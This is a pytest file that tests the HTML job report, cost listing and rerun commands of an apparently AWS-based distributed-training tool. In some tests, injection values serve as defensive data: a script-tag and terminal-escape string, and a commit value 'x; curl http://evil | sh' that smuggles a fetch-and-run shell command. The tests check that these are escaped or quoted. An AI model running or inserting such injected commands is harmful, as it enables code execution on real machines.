"""The page of a job: every number on it is found again in the files that it was made from."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from awsddp.errors import NotFoundError
from awsddp.job.jobs import jobs_document
from awsddp.job.report import write_report as report
from awsddp.model.records import RankProgress
from awsddp.session.context import Session
from awsddp.settings.loader import load
from awsddp.storage.results_dir import job_result, saved_job
from tests.storage.test_tensorboard import record
from tests.support.numbers_of_a_page import Page, check

BEGAN = datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)
HOSTILE = '<script>alert(1)</script> & "quoted" \x1b[31mred\x1b[0m \x1b]0;title\x07 \u202ebackwards'


def at(seconds: float) -> str:
    return (BEGAN + timedelta(seconds=seconds)).isoformat()


class Home:
    """A home with the cluster `default`, ended, and a project with the results of its jobs."""

    def __init__(self, top: Path) -> None:
        self.project, self.root = top / "project", top / "home"
        self.cluster = self.root / "history" / "default-0a1b2c3d"
        self.cluster.mkdir(parents=True)
        rates = {"node_usd_per_hour": 5.0, "disk_usd_per_hour": 0.1, "instance_type": "g5.xlarge", "nodes": 2}
        self._rows = [
            self.row(5, "launched", instances=["i-0", "i-1"], target="aws", region="eu-west-1", **rates),
        ]

    def row(self, seconds: float, event: str, **facts: Any) -> dict[str, Any]:
        return {"time": at(seconds), "event": event, "id": "0a1b2c3d", **facts}

    def job(
        self, name: str, began: float, *, state: str = "succeeded", slow: float = 1.0, **more: Any
    ) -> Path:
        """Put the results of a job of four ranks into the project; rank 3 has the pace `slow`."""
        folder = self.project / "runs" / name
        (folder / "logs").mkdir(parents=True)
        ranks = [
            {"rank": rank, "local_rank": rank % 2, "node": rank // 2, "exit_code": 0, "seconds": 20.0 + rank}
            for rank in range(4)
        ]
        for rank in range(4):
            (folder / "logs" / f"rank{rank}.log").write_text(
                "".join(f"rank {rank} line {number}\n" for number in range(60)) + f"{HOSTILE}\n"
            )
            place = folder / f"node{rank // 2}" / "run"
            place.mkdir(parents=True, exist_ok=True)
            pace = slow if rank == 3 else 1.0
            with (place / "metrics.jsonl").open("a") as file:
                for step in range(1, 31):
                    row = {"rank": rank, "step": step, "loss": 2.5 / step, "accuracy": step / 40}
                    file.write(json.dumps(row | {"time": 1000 + step / pace}) + "\n")
        for node in (0, 1):
            sampled = [
                {"rank": rank, "cpu_percent": 400.0 if rank == 3 else 98.5, "network_bytes_per_second": 2e6}
                for rank in (2 * node, 2 * node + 1)
            ]
            place = folder / ("logs" if node else ".awsddp")  # there an older awsddp fetched it
            place.mkdir(exist_ok=True)
            (place / f"samples{node}.json").write_text(json.dumps({"ranks": sampled}))
        document = {
            "job": name,
            "state": state,
            "cause": None,
            "ranks": ranks,
            "home": f"runs/{name}",
            "nodes": [{"node": node, "instance_id": f"i-{node}"} for node in (0, 1)],
            "script": "train.py",
            "args": ["--epochs", "3"],
            "commit": "0123456789abcdef",
            "world_size": 4,
            "instance_type": "g5.xlarge",
            "price_usd_per_hour": 10.2,
            "started": (BEGAN + timedelta(seconds=began)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "ended": (BEGAN + timedelta(seconds=began + 23)).strftime("%Y-%m-%dT%H:%M:%SZ"),
        }
        (folder / "job.json").write_text(json.dumps(document | more))
        self._rows.append(self.row(began, "train", job=name, home=str(folder)))
        self._rows.append(self.row(began + 25, "fetched", job=name, bytes=10**9, usd=0.09))
        return folder

    def session(self) -> Session:
        rows = [*self._rows, self.row(605, "ended")]
        (self.cluster / "ledger.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
        settings = load("other", overrides={"sync.workdir": str(self.project)}, environ={})
        return Session(name="other", home=self.root, settings=settings)


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


CAUSE = {
    "rank": 2,
    "node": 1,
    "kind": "exit",
    "exit_code": 1,
    "tail": ["Traceback", HOSTILE],
    "explanation": f"FileNotFoundError: {HOSTILE}",
    "next": "awsddp logs",
}


@pytest.mark.parametrize(
    "more",
    [
        {},
        {"state": "failed", "cause": CAUSE},
        {"state": "failed", "cause": CAUSE | {"rank": None, "kind": "hang", "tail": [], "next": ""}},
        {"resumed": "before", "options": ["-o", "job.timeout=1h"], "dirty": True},
        {"slow": 0.5},
    ],
    ids=["good", "failed", "hung", "resumed", "slow"],
)
def test_every_number_on_the_page_is_found_again(home: Home, more: dict[str, Any]) -> None:
    folder = home.job("one", 100, **more)
    document = report(home.session(), job="one")
    assert document["page"] == str(folder / "report.html")
    text = (folder / "report.html").read_text()
    page = Page(text)
    assert check(page, folder) == {"job.json", "metrics", "samples"}
    assert document["slowest_rank"] == (3 if "slow" in more else None)
    assert text.count("<td>slowest</td>") == ("slow" in more)
    assert [number for number in page.numbers if number[0].endswith("cpu_percent")] == [
        (f"samples: rank {rank}.cpu_percent", "400.0" if rank == 3 else "98.5") for rank in range(4)
    ]
    assert "400% *</data>" in text
    cause = more.get("cause")
    assert ("Why it failed" in text) == (cause is not None)
    assert document["measures"]["loss"] == {"last": 2.5 / 30, "best": 2.5 / 30}
    assert text.count("<svg") == 1 and text.count("<polyline") == 4
    assert document["job_usd"] == pytest.approx(23 / 3600 * 10.2, abs=0.0001)
    assert "$0.07</data>" in text


def test_page_names_the_checkpoint_and_the_option_that_continues_from_it(home: Home) -> None:
    folder = home.job("one", 100, state="failed", cause=CAUSE)
    report(home.session(), job="one")
    assert "Checkpoint" not in (folder / "report.html").read_text()
    (folder / "node0" / "model.pt").write_bytes(b"x")
    found = report(home.session(), job="one").checkpoint
    assert found is not None and found.endswith("one/node0/model.pt")
    text = (folder / "report.html").read_text()
    assert f"<code>--resume one</code> continues from <code>{found}</code>" in text


def test_what_a_node_wrote_is_text_on_the_page_and_nothing_comes_from_elsewhere(home: Home) -> None:
    folder = home.job("one", 100, state="failed", cause=CAUSE, args=[HOSTILE], script=HOSTILE)
    report(home.session(), job="one")
    text = (folder / "report.html").read_text()
    page = Page(text)
    assert not {"script", "link", "img", "iframe", "object"} & set(page.tags)
    assert text.count("default-src &#39;none&#39;") + text.count("default-src 'none'") == 1
    for forbidden in ("\x1b", "\x07", "\u202e", "https://", "url(", "<script"):
        assert forbidden not in text
    assert "&lt;script&gt;" in text
    assert "red \\x1b]0;title\\x07 \\u202ebackwards" in text


def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
    home.job("one", 100, args=["a b", "--x"], resumed="before", options=["-o", "job.timeout=1h"])
    assert list(report(home.session(), job="one").again) == [
        "git checkout 0123456789abcdef",
        "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge",
        "awsddp train --timeout 1h --resume before train.py -- 'a b' --x",
        "awsddp down",
    ]


def test_a_job_has_one_loss_wherever_it_is_shown(home: Home) -> None:
    folder = home.job("one", 100)
    losses = {0: (3.0, 2.0, 2.5), 1: (1.0, 0.5, 0.75), 2: (9.0, 8.0, 8.5), 3: (0.1, 0.2, 0.3)}
    for node in (0, 1):
        rows = [
            {"rank": rank, "step": step, "loss": losses[rank][step], "accuracy": 1 / losses[rank][step]}
            for step in range(3)
            for rank in (2 * node, 2 * node + 1)
        ]
        (folder / f"node{node}/run/metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    shown, job = report(home.session(), job="one"), saved_job(folder)
    (listed,) = jobs_document(home.session(), ()).jobs
    assert job is not None and shown.measures["loss"] == {"last": 2.5, "best": 2.0}
    assert {shown.loss, listed.loss, job_result(home.session(), job, folder=folder).loss} == {2.5}
    assert shown.accuracy == shown.measures["accuracy"]["last"] == 1 / 2.5


def test_what_up_is_given_is_not_given_to_train_again(home: Home) -> None:
    home._rows[0]["asked"] = {"cluster.nodes": 2, "env.file": "requirements.txt"}
    env = ["-o", "env.file=requirements.txt", "-o", "env.python=/usr/bin/python3.12"]
    home.job("one", 100, options=env)
    assert list(report(home.session(), job="one").again)[1:3] == [
        "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge --env requirements.txt",
        "awsddp train -o env.python=/usr/bin/python3.12 train.py -- --epochs 3",
    ]


def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> None:
    home.job("one", 100, commit="x; curl http://evil | sh")
    assert report(home.session(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"


def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
    folder = home.job("one", 100, started=None, ended=None, commit=None, script=None)
    for path in (*folder.rglob("*.log"), *folder.rglob("metrics.jsonl")):
        path.unlink()
    session = home.session()
    (home.cluster / "ledger.jsonl").unlink()
    document = report(session, job="one")
    assert (document["job_usd"], document["cluster"], document["seconds"]) == (None, None, None)
    assert "<svg" not in (folder / "report.html").read_text()


def test_loss_is_of_tensorboards_files_where_the_metrics_hold_none(home: Home) -> None:
    folder = home.job("one", 100)
    for file in folder.rglob("metrics.jsonl"):
        file.unlink()
    place = folder / "node1" / "runs"
    place.mkdir()
    events = b"".join(record(step, (b"train/loss", 4.0 / step)) for step in (1, 2, 4))
    (place / "events.out.tfevents.1.host").write_bytes(events)
    assert report(home.session(), job="one")["measures"] == {"loss": {"last": 1.0, "best": 1.0}}
    assert (folder / "report.html").read_text().count("<polyline") == 1


def test_without_a_name_the_page_is_of_the_last_job(home: Home) -> None:
    folder = home.job("one", 200)
    home.job("two", 100)
    session = home.session()
    assert report(session)["job"] == "one"
    assert "<code>one</code>" in (folder / "report.html").read_text()


def test_jobs_of_all_clusters_are_listed_with_their_cost_and_the_time_without_a_job(home: Home) -> None:
    home.job("two", 200, state="failed", cause=CAUSE)
    home.job("one", 100)
    home.job("cut", 400, state="running", ended=None)
    home.job("early", 50, state="failed", started=None, ended=None)
    document = jobs_document(home.session(), ())
    assert [(row["job"], row["state"], row["cluster"], row["ended"]) for row in document["jobs"]] == [
        ("early", "failed", "default", None),
        ("one", "succeeded", "default", "2026-11-22T12:02:03Z"),
        ("two", "failed", "default", "2026-11-22T12:03:43Z"),
        ("cut", "interrupted", "default", "2026-11-22T12:10:05Z"),
    ]
    assert [row["job_usd"] for row in document["jobs"]] == [None, 0.0652, 0.0652, 0.5808]
    # two nodes for ten minutes at $5.00 an hour and their disks, four gigabytes that left AWS
    (cluster,) = document["clusters"]
    assert cluster["cost_usd"] == round(2 * 5.1 / 6 + 4 * 0.09, 2) == document["total_usd"] == 2.06
    assert cluster["idle_usd"] == round(2.06 - 0.0652 - 0.0652 - 0.5808, 2)
    assert document["would_have_cost_usd"] == 0


def test_two_jobs_on_one_node_share_its_price(home: Home) -> None:
    for name in ("one", "two"):
        home.job(name, 100)
    assert [job.job_usd for job in jobs_document(home.session(), ()).jobs] == [0.0326, 0.0326]


def test_jobs_since_a_moment_are_summed_from_then_on(home: Home) -> None:
    home.job("one", 100)
    home.job("two", 300)
    document = jobs_document(home.session(), (), since=BEGAN + timedelta(seconds=305))
    assert [job.job for job in document.jobs] == ["two"] and document.since == at(305).replace("+00:00", "Z")
    # the last five of ten minutes, and two gigabytes
    assert document.total_usd == pytest.approx(2 * 5.1 / 12 + 0.09, abs=0.011)
    late = jobs_document(home.session(), (), since=BEGAN + timedelta(days=1))
    assert (late.jobs, late.clusters, late.total_usd) == ((), (), 0.0)


def test_unknown_job_is_named_with_the_command_that_lists_all(home: Home) -> None:
    with pytest.raises(NotFoundError, match="no job none") as caught:
        report(home.session(), job="none")
    assert caught.value.next.startswith("awsddp jobs ")


def test_jobs_tell_step_and_loss_of_the_metrics_or_else_of_the_last_event_file(home: Home) -> None:
    folders = [
        home.job(name, 100 + began) for began, name in enumerate(("written", "events", "both", "none"))
    ]
    for folder in folders[1::2]:
        for path in folder.rglob("metrics.jsonl"):
            path.unlink()
    folders[1].joinpath("node0/tb").mkdir()
    data = b"".join(record(step, (b"train/loss", 8.0 - step)) for step in range(4))
    folders[1].joinpath("node0/tb/events.out.tfevents.1").write_bytes(data + record(4, (b"train/loss", 0.5)))
    folders[1].joinpath("node0/tb/events.out.tfevents.2").write_bytes(b"\xff" * 99)
    for rank, path in enumerate(sorted(folders[2].rglob("metrics.jsonl"))):
        path.write_text(f'{{"rank": {2 * rank}, "epoch": 1, "epochs": 4, "step": 7}}\n')
    folders[2].joinpath("node1/events.out.tfevents.1").write_bytes(data)
    jobs = {job.job: (job.step, job.loss, job.fraction) for job in jobs_document(home.session(), ()).jobs}
    assert jobs == {
        "written": (30, 2.5 / 30, None),
        "events": (4, 0.5, None),
        "both": (3, 5.0, 0.25),
        "none": (None, None, None),
    }
    [_, ran, *_] = jobs_document(home.session(), ()).jobs
    assert (job_result(home.session(), ran).step, job_result(home.session(), ran).loss) == (4, 0.5)
    assert report(home.session(), job="events").loss == 0.5
    running = replace(ran, progress=(RankProgress(rank=0, step=9, loss=0.25),))
    assert job_result(home.session(), running).loss == 0.25, "what nodes tell comes first"
